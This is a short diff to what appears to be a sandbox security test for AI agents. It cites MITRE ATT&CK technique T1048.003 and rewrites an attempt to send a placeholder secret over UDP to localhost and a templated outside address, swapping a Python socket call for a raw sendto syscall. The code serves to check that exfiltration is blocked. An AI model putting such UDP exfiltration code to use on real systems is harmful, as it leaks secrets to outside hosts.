@@ -4,14 +4,10 @@ See: https://attack.mitre.org/techniques/T1048/003/
 Layers: main bare
 Control: witness
 """
-from llmdas_sandbox.guest.tools import *
-
 
 
 def attempt():
     for host in ("127.0.0.1", "@ADDRESS@"):
-        try:
-            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@SECRET@", (host, @UDP_PORT@))
-        except OSError:
-            pass
+        place = inet(host, @UDP_PORT@)
+        call(44, new_socket(2, 2), b"@SECRET@", 24, 0, place, len(place))
     return 0.0
